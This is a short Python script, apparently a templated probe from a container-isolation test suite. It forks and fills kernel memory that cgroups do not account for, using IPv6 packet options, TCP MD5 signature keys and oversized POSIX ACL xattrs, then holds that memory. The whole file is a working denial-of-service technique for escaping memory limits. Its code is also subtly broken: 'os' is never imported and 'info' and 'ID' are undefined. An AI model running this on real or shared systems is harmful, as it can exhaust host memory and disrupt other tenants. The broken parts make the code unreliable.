# Memory that the kernel keeps for options of sockets and for access lists of files is in no cgroup.
import socket
import struct
import time

kept, taken = [], {}


def extension_headers():
    header = struct.pack("=QiiI4x", 20, 41, 67, 1) * 2700
    for _ in range(500):
        kept.append(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
        kept[-1].setsockopt(41, 6, header)  # IPV6_2292PKTOPTIONS
        yield len(header)


def keys():
    for _ in range(300):
        kept.append(socket.socket())
        for host in range(900):
            address = struct.pack("=HH4s120x", 2, 0, struct.pack(">I", 0x0A000000 + host))
            key = struct.pack("=BBHI80s", 0, 0, 80, 0, b"k" * 80)
            kept[-1].setsockopt(6, 14, address + key)  # TCP_MD5SIG
            yield 192


def access_lists():
    everyone = b"".join(struct.pack("<HHI", tag, 6, 0xFFFFFFFF) for tag in (4, 16, 32))
    owner = struct.pack("<IHHI", 2, 1, 6, 0xFFFFFFFF)
    acl = owner + struct.pack("<HHI", 2, 6, os.getuid()) * 8000 + everyone
    for number in range(600):
        os.mkdir(f"/tmp/rs59-{os.getpid()}-{number}")
        for name in ("system.posix_acl_access", "system.posix_acl_default"):
            os.setxattr(f"/tmp/rs59-{os.getpid()}-{number}", name, acl)
            yield len(acl)


done, finish = os.pipe()
child = os.fork()  # each may have some hundred sockets
for take in (extension_headers, keys, access_lists):
    taken[take.__name__] = 0
    try:
        for size in take():
            taken[take.__name__] += size
    except (OSError, AttributeError) as error:
        info(f"{take.__name__}: {error}")
if child:
    os.read(done, 1)
    print("TAKEN", ID, {name: f"{size >> 20} MB" for name, size in taken.items()}, flush=True)
else:
    os.write(finish, b"x")
time.sleep(float("{{STAY_S}}"))
